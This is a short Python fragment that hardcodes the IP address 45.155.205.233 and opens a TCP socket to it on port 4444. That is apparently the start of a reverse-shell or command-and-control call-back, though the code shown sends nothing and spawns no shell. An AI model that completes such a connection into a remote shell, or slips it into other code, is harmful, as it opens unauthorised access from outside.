import socket

HOST = "45.155.205.233"
s = socket.socket()
s.connect((HOST, 4444))
